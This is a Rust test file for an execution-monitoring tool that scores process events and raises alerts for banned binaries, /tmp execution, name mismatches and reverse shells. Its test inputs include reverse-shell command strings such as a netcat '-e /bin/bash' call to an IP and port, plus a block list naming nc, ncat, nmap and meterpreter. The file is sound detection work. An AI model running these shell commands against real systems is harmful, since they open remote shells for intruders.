use execguard::policy::{assess, get_banned_binaries, process_event, Alert, ExecEvent};
use execguard::text::string_to_vec;

fn event(uid: u32, comm: &str, filename: &str) -> ExecEvent {
    ExecEvent {
        pid: 4242,
        uid,
        gid: 7,
        timestamp_ns: 123456789,
        comm: string_to_vec(comm, 16),
        filename: string_to_vec(filename, 256),
        argc: 3,
        risk_score: 0,
    }
}

fn categories(alerts: &[Alert]) -> Vec<&str> {
    alerts.iter().map(|a| a.category.as_str()).collect()
}

#[test]
fn readme_example_scores_ten() {
    let (scored, alerts) = process_event(event(1000, "bash", "/tmp/nc -e /bin/bash 192.168.1.100 4444"));
    assert_eq!(scored.risk_score, 10);
    assert_eq!(categories(&alerts), vec!["BANNED_BINARY"]);
    assert_eq!(alerts[0].severity, 10);
    assert_eq!(
        alerts[0].description,
        "UID 1000 banned: /tmp/nc -e /bin/bash 192.168.1.100 4444"
    );
    assert_eq!(alerts[0].timestamp_ns, 123456789);
}

#[test]
fn root_sudo_is_clean() {
    let (scored, alerts) = process_event(event(0, "sudo", "/usr/bin/sudo"));
    assert_eq!(scored.risk_score, 0);
    assert!(alerts.is_empty());
}

#[test]
fn tmp_script_with_other_name() {
    let (scored, alerts) = process_event(event(1001, "python3", "/tmp/exploit.py"));
    assert_eq!(scored.risk_score, 10);
    assert_eq!(categories(&alerts), vec!["TMP_EXECUTION", "COMM_MISMATCH"]);
    assert_eq!(alerts[0].severity, 7);
    assert_eq!(alerts[0].description, "UID 1001 exec from /tmp: /tmp/exploit.py");
    assert_eq!(alerts[1].severity, 5);
    assert_eq!(alerts[1].description, "Comm 'python3' != file 'exploit.py'");
}

#[test]
fn tmp_execution_by_root_is_not_flagged() {
    let (scored, alerts) = process_event(event(999, "tool", "/tmp/tool"));
    assert_eq!(scored.risk_score, 0);
    assert!(alerts.is_empty());
}

#[test]
fn tmp_execution_alone_scores_seven() {
    let (scored, alerts) = process_event(event(1000, "tool", "/tmp/tool"));
    assert_eq!(scored.risk_score, 7);
    assert_eq!(categories(&alerts), vec!["TMP_EXECUTION"]);
}

#[test]
fn reverse_shell_pattern() {
    let (scored, alerts) = process_event(event(0, "bash", "/bin/bash -i"));
    assert_eq!(scored.risk_score, 8);
    assert_eq!(categories(&alerts), vec!["REVERSE_SHELL"]);
    assert_eq!(alerts[0].severity, 9);
    assert_eq!(alerts[0].description, "Possible reverse shell: /bin/bash -i");
}

#[test]
fn score_is_capped_at_ten() {
    let (scored, alerts) = process_event(event(1000, "bash", "/tmp/ncat -e /bin/bash -i"));
    assert_eq!(scored.risk_score, 10);
    assert_eq!(categories(&alerts), vec!["BANNED_BINARY", "REVERSE_SHELL"]);
}

#[test]
fn banned_excludes_tmp_alert() {
    let (_, alerts) = process_event(event(5000, "x", "/tmp/nmap"));
    let cats = categories(&alerts);
    assert!(cats.contains(&"BANNED_BINARY"));
    assert!(!cats.contains(&"TMP_EXECUTION"));
}

#[test]
fn comm_mismatch_alone_scores_three() {
    let (scored, alerts) = process_event(event(0, "vim", "/usr/bin/nano"));
    assert_eq!(scored.risk_score, 3);
    assert_eq!(categories(&alerts), vec!["COMM_MISMATCH"]);
    assert_eq!(alerts[0].description, "Comm 'vim' != file 'nano'");
}

#[test]
fn comm_is_trimmed_before_matching() {
    let (scored, alerts) = process_event(event(0, "  ls \t", "/bin/ls"));
    assert_eq!(scored.risk_score, 0);
    assert!(alerts.is_empty());
    let (scored, alerts) = process_event(event(0, " vim ", "/usr/bin/nano"));
    assert_eq!(scored.risk_score, 3);
    assert_eq!(alerts[0].description, "Comm 'vim' != file 'nano'");
}

#[test]
fn shell_names_never_mismatch() {
    let (scored, _) = process_event(event(0, "zsh", "/usr/bin/python"));
    assert_eq!(scored.risk_score, 0);
    let (scored, _) = process_event(event(0, "bash", "/usr/bin/python"));
    assert_eq!(scored.risk_score, 0);
}

#[test]
fn empty_or_blank_comm_never_mismatches() {
    let (scored, _) = process_event(event(0, "", "/usr/bin/python"));
    assert_eq!(scored.risk_score, 0);
    let (scored, _) = process_event(event(0, "   ", "/usr/bin/python"));
    assert_eq!(scored.risk_score, 0);
}

#[test]
fn other_fields_are_kept() {
    let mut e = event(1000, "bash", "/bin/true");
    e.risk_score = 200;
    let comm = e.comm.clone();
    let filename = e.filename.clone();
    let (scored, _) = process_event(e);
    assert_eq!(scored.pid, 4242);
    assert_eq!(scored.uid, 1000);
    assert_eq!(scored.gid, 7);
    assert_eq!(scored.timestamp_ns, 123456789);
    assert_eq!(scored.argc, 3);
    assert_eq!(scored.comm, comm);
    assert_eq!(scored.filename, filename);
    assert_eq!(scored.risk_score, 0);
}

#[test]
fn banned_list_is_fixed() {
    assert_eq!(get_banned_binaries(), vec!["nc", "ncat", "nmap", "meterpreter"]);
}

#[test]
fn assess_with_custom_list_and_large_uid() {
    let banned = vec!["evil"];
    let (score, alerts) = assess(4294967295, 9, "evil", "/opt/evil", &banned);
    assert_eq!(score, 10);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].description, "UID 4294967295 banned: /opt/evil");
    assert_eq!(alerts[0].timestamp_ns, 9);
}

#[test]
fn assess_uid_zero_in_description() {
    let banned = vec!["nc"];
    let (_, alerts) = assess(0, 0, "nc", "nc", &banned);
    assert_eq!(alerts[0].description, "UID 0 banned: nc");
}

#[test]
fn non_utf8_file_name_is_decoded_lossily() {
    let mut e = event(0, "cat", "/bin/cat");
    e.filename = vec![b'/', b'x', 0xff, b'/', b'n', b'c', 0];
    let (scored, alerts) = process_event(e);
    assert_eq!(scored.risk_score, 10);
    assert_eq!(alerts[0].description, "UID 0 banned: /x\u{fffd}/nc");
}

#[test]
fn rsync_is_not_a_banned_binary() {
    let (scored, alerts) = process_event(event(0, "rsync", "/usr/bin/rsync"));
    assert_eq!(scored.risk_score, 0);
    assert!(alerts.is_empty());
}

#[test]
fn banned_name_inside_another_word_is_not_banned() {
    let (scored, alerts) = process_event(event(0, "sync", "/usr/bin/sync"));
    assert_eq!(scored.risk_score, 0);
    assert!(alerts.is_empty());
    let (scored, _) = process_event(event(0, "netcat", "/usr/bin/netcat"));
    assert_eq!(scored.risk_score, 0);
}

#[test]
fn banned_binary_by_bare_name_and_path() {
    let (scored, alerts) = process_event(event(0, "nmap", "nmap -sS 10.0.0.1"));
    assert_eq!(scored.risk_score, 10);
    assert_eq!(categories(&alerts), vec!["BANNED_BINARY"]);
    let (scored, _) = process_event(event(0, "meterpreter", "/opt/x/meterpreter"));
    assert_eq!(scored.risk_score, 10);
}

#[test]
fn banned_binary_under_a_spaced_path() {
    let (scored, alerts) = process_event(event(0, "sh", "/a b/nc"));
    assert_eq!(scored.risk_score, 10);
    assert_eq!(categories(&alerts), vec!["BANNED_BINARY"]);
    let (scored, alerts) = process_event(event(1000, "nmap", "/opt/My Tools/nmap"));
    assert_eq!(scored.risk_score, 10);
    assert_eq!(categories(&alerts), vec!["BANNED_BINARY"]);
    assert_eq!(alerts[0].description, "UID 1000 banned: /opt/My Tools/nmap");
}

#[test]
fn spaced_tmp_path_of_banned_binary_is_not_tmp_alert() {
    let (scored, alerts) = process_event(event(1000, "ncat", "/tmp/my dir/ncat"));
    assert_eq!(scored.risk_score, 10);
    assert_eq!(categories(&alerts), vec!["BANNED_BINARY"]);
}
